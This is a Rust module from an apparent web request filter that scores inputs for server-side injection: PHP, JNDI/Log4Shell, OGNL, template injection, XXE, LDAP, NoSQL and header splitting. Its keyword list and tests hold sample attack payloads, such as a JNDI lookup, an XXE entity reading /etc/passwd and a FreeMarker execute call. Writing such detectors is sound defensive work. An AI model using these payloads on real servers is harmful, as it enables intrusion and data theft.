//! Code for an interpreter on the server: expressions, templates, serialised objects, entity declarations, look-ups.

use std::sync::LazyLock;

use super::phrases::{Phrases, Weighted};
use super::{Hit, Place};

/// Pieces of code that no reader types.
const PIECES: &[Weighted] = &[
    // PHP
    ("<?php", 7.0),
    ("<?=", 6.5),
    ("allow_url_include", 7.5),
    ("auto_prepend_file", 7.5),
    ("disable_functions", 6.0),
    ("base64_decode(", 6.0),
    ("shell_exec(", 6.5),
    ("passthru(", 6.5),
    ("system('", 6.5),
    ("system(\"", 6.5),
    ("system(", 4.5),
    ("phpinfo(", 6.0),
    ("call_user_func", 6.5),
    ("invokefunction", 7.0),
    ("file_put_contents", 6.5),
    ("file_get_contents", 5.5),
    ("fopen(", 4.5),
    ("popen(", 5.0),
    ("proc_open", 6.0),
    ("assert(", 4.5),
    ("create_function", 5.5),
    ("$_get", 5.0),
    ("$_post", 5.0),
    ("$_request", 5.0),
    ("$_server", 5.0),
    ("preg_replace", 4.5),
    ("@eval", 6.0),
    ("eval(base64", 7.5),
    ("eval($", 7.0),
    ("die(md5", 7.0),
    ("print(md5", 6.5),
    ("md5(", 1.5),
    ("__halt_compiler", 6.0),
    ("var_dump(", 5.0),
    ("print_r(", 4.5),
    ("htmlspecialchars(", 3.0),
    // Java
    ("${jndi", 9.0),
    ("jndi:", 6.5),
    ("${${", 8.0),
    ("${lower:", 8.0),
    ("${upper:", 8.0),
    ("${env:", 7.0),
    ("${sys:", 7.0),
    ("${::-", 8.0),
    (".exec(", 4.0),
    ("class.module.classloader", 7.0),
    ("${date:", 5.0),
    ("${script:", 7.5),
    ("${dns:", 7.0),
    ("${url:", 7.0),
    ("java.lang", 6.5),
    ("javax.script", 6.5),
    ("java.util", 4.5),
    ("java.io", 5.0),
    ("getruntime", 6.5),
    ("processbuilder", 6.0),
    ("classloader", 6.0),
    ("class.module", 6.5),
    ("ognl", 5.0),
    ("_memberaccess", 7.0),
    ("opensymphony", 7.0),
    ("org.apache.", 4.2),
    ("freemarker.template", 7.0),
    ("springframework", 4.5),
    ("t(java", 7.0),
    ("new java.", 6.5),
    ("scriptengine", 5.5),
    ("ro0ab", 4.5),
    ("aced0005", 6.0),
    ("multipartcontent", 2.0),
    ("redirect:${", 7.5),
    ("redirect:%{", 7.5),
    ("action:${", 7.5),
    ("method:%23", 6.5),
    ("#context", 6.0),
    ("@org.", 5.0),
    ("#parameters", 5.0),
    ("#request", 4.0),
    ("#application", 4.0),
    // Python, Ruby, JavaScript, templates
    ("__import__", 6.5),
    ("__class__", 6.5),
    ("__globals__", 7.0),
    ("__subclasses__", 7.0),
    ("__mro__", 7.0),
    ("__builtins__", 7.0),
    ("__init__", 5.0),
    ("__proto__", 6.0),
    ("constructor[prototype]", 6.5),
    ("constructor.prototype", 6.5),
    ("os.popen", 6.5),
    ("os.system", 6.5),
    ("subprocess.", 5.5),
    ("child_process", 6.5),
    ("process.env", 4.2),
    ("process.mainmodule", 7.0),
    ("require('", 4.2),
    ("require(\"", 4.2),
    ("<%=", 5.0),
    ("<%", 3.0),
    ("#{", 2.0),
    ("{{config", 6.5),
    ("{{self", 6.5),
    ("{{request", 6.0),
    ("{{''", 7.0),
    ("{{[]", 7.0),
    ("{{()", 7.0),
    ("{{constructor", 7.0),
    ("{{$on", 6.5),
    ("{{$eval", 6.5),
    ("{%import", 6.0),
    ("{% import", 6.0),
    ("{% for", 4.0),
    ("{%for", 4.5),
    ("{php}", 6.0),
    ("{system", 6.0),
    ("<#assign", 6.5),
    ("|filter('system", 7.0),
    ("cycler.", 6.0),
    ("lipsum.", 6.0),
    // XML, XSLT, ESI
    ("<!entity", 6.5),
    ("<!doctype", 2.0),
    ("system \"file:", 7.5),
    ("system \"http", 6.5),
    ("xi:include", 6.5),
    ("<xsl:", 5.0),
    ("xmlns:xi", 6.0),
    ("<esi:", 6.5),
    ("<!element", 4.5),
    ("<!attlist", 4.5),
    ("system 'file:", 7.5),
    ("system 'http", 6.5),
    // LDAP and XPath
    ("*)(", 4.5),
    (")(|(", 5.5),
    (")(&(", 5.5),
    ("*(|(", 5.5),
    ("(|(mail=", 5.5),
    ("(objectclass=", 5.5),
    ("*)(&", 5.5),
    ("count(/", 5.0),
    ("/child::", 5.0),
    ("string-length(/", 5.5),
    ("'] | //", 6.0),
    ("(uid=*", 5.5),
    (")(cn=", 5.5),
    // Header splitting
    ("http/1.1 200", 5.5),
    ("http/1.1 20", 4.5),
    // Document databases
    ("[$ne]", 0.7),
    ("[$gt]", 0.7),
    ("[$regex]", 0.7),
    ("[$nin]", 0.7),
    ("[$exists]", 0.7),
    ("[$where]", 6.0),
    ("$where:", 5.5),
    ("\"$where\"", 5.0),
    ("db.injection", 6.0),
    ("this.password", 6.0),
    ("{ $ne:", 5.0),
    ("{$ne:", 5.0),
    ("{ $gt:", 4.5),
    ("{$gt:", 4.5),
    ("{ $nin", 4.5),
    ("{ $regex", 4.5),
    ("return this", 3.0),
    ("$or: [", 5.0),
    ("$comment:", 5.0),
    ("db.stores.", 5.0),
    ("mapreduce(function", 6.0),
    ("this.username", 5.0),
    ("this.userid", 5.0),
    ("||'1'=='1", 5.5),
];

static PHRASES: LazyLock<Phrases> = LazyLock::new(|| Phrases::new(PIECES));

/// Pieces with at least this are counted as independent ones.
const PIECE_MIN: f32 = 4.0;

/// Beginnings of pieces that are written in attacks alone.
const ATTACKS_ONLY: &[&[u8]] = &[
    b"${jndi:",
    b"${${",
    b"${lower:",
    b"${upper:",
    b"${::-",
    b"class.module.classloader",
    b"-d allow_url_include",
    b"redirect:${",
    b"redirect:%{",
    b"action:${",
    b"method:%23",
    b"__proto__[",
    b"eval(base64",
    b"[constructor][prototype]",
];

/// Looks for code; `text` is decoded and in small letters.
pub(super) fn look(text: &[u8], place: Place) -> Option<Hit> {
    let what = "code for an interpreter on the server";
    let names = |sign: &&[u8]| memchr::memmem::find(text, sign).is_some();
    if place == Place::Referrer {
        // Search engines hand their visitors' questions on; only a look-up in a log is meant for the reader.
        let looked_up = [b"${jndi".as_slice(), b"${${"].iter().any(names);
        return looked_up.then_some(Hit { evidence: 8.0, what, lone: false });
    }
    let (piece, pair) = pieces(text);
    let expression = expression(text);
    let (object, format, split) = (serialised(text), format_string(text), splits_head(text));
    let operator = if ASKS_PASSWORD.iter().any(names) { 5.5 } else { 0.0 };
    let whole = expression.evidence.max(object).max(operator).max(split);
    let evidence = piece.max(whole).max(format);
    let composed = pair
        || expression.whole
        || expression.found && piece >= 5.0
        || object > 0.0
        || names(&b"<!doctype".as_slice()) && names(&b"<!entity".as_slice())
        || operator > 0.0
        || split > 0.0 && !place.is_body()
        || ATTACKS_ONLY.iter().any(names);
    (evidence > 0.0).then_some(Hit { evidence, what, lone: !composed })
}

/// An operator of a document database where a password belongs: nobody filters by one.
const ASKS_PASSWORD: &[&[u8]] = &[b"password[$", b"passwd[$", b"pass[$", b"pwd[$", b"token[$"];

/// The weightiest piece, and whether a construct stands beside another piece.
fn pieces(text: &[u8]) -> (f32, bool) {
    let (mut best, mut count, mut end, mut construct) = (0.0f32, 0, 0, false);
    for found in PHRASES.all(text) {
        best = best.max(found.evidence);
        if found.evidence < PIECE_MIN || found.start + 1 < end {
            continue;
        }
        count += 1;
        end = found.end;
        // Names are listed in questions; signs are not.
        construct |= found.evidence >= 5.0
            && text[found.start..found.end].iter().any(|b| !b.is_ascii_alphanumeric() && !b"_. ".contains(b));
    }
    (best, count >= 2 && construct)
}

/// What the brackets of template languages hold.
#[derive(Clone, Copy, Default)]
struct Expression {
    evidence: f32,
    /// There are such brackets, other than those of pages (`<%`).
    found: bool,
    /// They hold a sum, or a call upon an object reached for.
    whole: bool,
}

/// Openings looked at in one text; templates that people fill have a few.
const OPENINGS_MAX: usize = 64;

/// Bytes after an opening in which its expression ends.
const EXPRESSION_BYTES_MAX: usize = 160;

/// What stands between the brackets of template languages, and whether these are `<%`. The stretches share no byte,
/// so that looking at all of them is linear.
fn stretches(text: &[u8]) -> impl Iterator<Item = (&[u8], bool)> {
    const OPENINGS: [&[u8]; 8] = [b"${", b"#{", b"%{", b"*{", b"@{", b"{{", b"<%", b"{%"];
    let mut at = 0;
    std::iter::from_fn(move || {
        loop {
            let start = at + memchr::memchr2(b'{', b'%', text.get(at..)?)?;
            let opening = start.saturating_sub(1);
            at = start + 1;
            // The sign before the bracket may have ended the stretch before; it opens this one all the same.
            let Some(found) = OPENINGS.iter().find(|found| text[opening..].starts_with(found)) else {
                continue;
            };
            let begin = opening + found.len();
            let rest = &text[begin..];
            let rest = &rest[..rest.len().min(EXPRESSION_BYTES_MAX)];
            let len = memchr::memchr(b'}', rest).unwrap_or(rest.len());
            at = begin + len;
            return Some((&rest[..len], found.starts_with(b"<")));
        }
    })
    .take(OPENINGS_MAX)
}

/// `${7*7}`, `{{7*7}}`, `%{(#a=…)}`: brackets of a template language around something to compute.
fn expression(text: &[u8]) -> Expression {
    let mut best = Expression::default();
    for (inner, of_page) in stretches(text) {
        best.found |= !of_page;
        let computes = inner.windows(3).any(|w| matches!(w, [b'0'..=b'9', b'*' | b'+', b'0'..=b'9' | b'\'']))
            || inner.windows(5).any(|w| {
                w[0].is_ascii_digit() && w[1] == b' ' && matches!(w[2], b'*' | b'+') && w[3] == b' '
            });
        let calls = inner.windows(2).any(|w| {
            w[1] == b'(' && (w[0].is_ascii_alphanumeric() || matches!(w[0], b'_' | b'\'' | b'"' | b')'))
        });
        let reaches = inner
            .windows(2)
            .any(|w| matches!(w, [b'#' | b'@', b'a'..=b'z' | b'_']) || w == b"[(" || w == b"?n");
        let (evidence, whole) = match (computes, calls, reaches) {
            (true, ..) => (6.5, true),
            // `<%= link_to(@post) %>`
            (_, true, true) => (7.0, !of_page),
            (_, true, _) => (5.0, false),
            (_, _, true) => (4.2, false),
            _ => (0.0, false),
        };
        best.evidence = best.evidence.max(evidence);
        best.whole |= whole;
    }
    best
}

/// PHP's serialised objects and arrays with objects: `o:8:"stdclass":1:{`.
fn serialised(text: &[u8]) -> f32 {
    for at in memchr::memmem::find_iter(text, b"o:") {
        let rest = &text[at + 2..];
        let rest = rest.strip_prefix(b"+").unwrap_or(rest);
        let digits = rest.iter().take(6).take_while(|b| b.is_ascii_digit()).count();
        let fresh = at == 0 || !text[at - 1].is_ascii_alphanumeric();
        if fresh && digits > 0 && rest[digits..].starts_with(b":\"") {
            return 6.5;
        }
    }
    0.0
}

/// `%s%s%s`, `%x.%x.%n`: several conversions of C's `printf` in a row, which programmers ask about too.
fn format_string(text: &[u8]) -> f32 {
    let count =
        text.windows(2).filter(|w| w[0] == b'%' && matches!(w[1], b's' | b'x' | b'n' | b'p' | b'd')).count();
    if count >= 3 { 2.5 } else { 0.0 }
}

/// A line break followed by a response header's name.
fn splits_head(text: &[u8]) -> f32 {
    const NAMES: [&[u8]; 6] = [
        b"set-cookie:",
        b"location:",
        b"content-type:",
        b"content-length:",
        b"contentlength:",
        b"x-injected",
    ];
    let splits = memchr::memchr_iter(b'\n', text).any(|at| {
        let rest = text[at + 1..].trim_ascii_start();
        NAMES.iter().any(|name| rest.starts_with(name))
    });
    if splits { 6.0 } else { 0.0 }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn evidence(text: &str) -> f32 {
        look(text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.tempered(Place::Query))
    }

    #[test]
    fn code_decides() {
        for text in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:x}",
            "{{7*7}}",
            "${7*7}",
            "<?php system('id');",
            "%{(#a=@org.x)}",
            "o:8:\"stdclass\":1:{",
            "<!doctype a [<!entity x system \"file:///etc/passwd\">]>",
            "{{__import__('os')}}",
            "x\nset-cookie: a=b",
            "password[$ne]",
            "*)(uid=*))",
            "${\"freemarker.template.utility.execute\"?new()(\"id\")}",
            "-d allow_url_include=1",
            "class.module.classloader.resources",
            "/${(#a=@org.apache.commons.io.ioutils@x())}/",
        ] {
            assert!(evidence(text) >= 4.0, "{text}: {}", evidence(text));
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "{{campaign.name}}",
            "${gclid}",
            "php developer",
            "system administration",
            "100% sure",
            "cost: $5 {each}",
            "f(x){y}",
            "a {b} c",
            "50% discount",
            "__utm",
            "o:1",
            "object-oriented java",
            "{keyword:shoes}",
            "eval the results",
            "age[$gt]",
            "filter[where][age][$gt]",
            "{lpurl}",
        ] {
            assert!(evidence(text) < 2.0, "{text}: {}", evidence(text));
        }
    }

    #[test]
    fn one_piece_never_decides() {
        for text in [
            "__proto__",
            "<?php echo",
            "{{ format(date) }}",
            "{{#each items}}",
            "<%= link_to(@post) %>",
            "phpinfo()",
        ] {
            assert!(evidence(text) < 3.0, "{text}: {}", evidence(text));
        }
    }

    #[test]
    fn openings_cost_no_more_than_their_text() {
        for opening in ["{{", "%{", "{%", "${", "<%="] {
            let text = opening.repeat(2000);
            let read: usize = stretches(text.as_bytes()).map(|(inner, _)| inner.len()).sum();
            assert!(
                read <= text.len() && stretches(text.as_bytes()).count() <= OPENINGS_MAX,
                "{opening}: {read}"
            );
        }
    }

    proptest::proptest! {
        #[test]
        fn stretches_share_no_byte(text in "[{}$%<#a(7* ]{0,600}") {
            let mut end = 0;
            for (inner, _) in stretches(text.as_bytes()) {
                let start = inner.as_ptr() as usize - text.as_ptr() as usize;
                proptest::prop_assert!(start >= end && inner.len() <= EXPRESSION_BYTES_MAX);
                end = start + inner.len();
            }
        }
    }
}
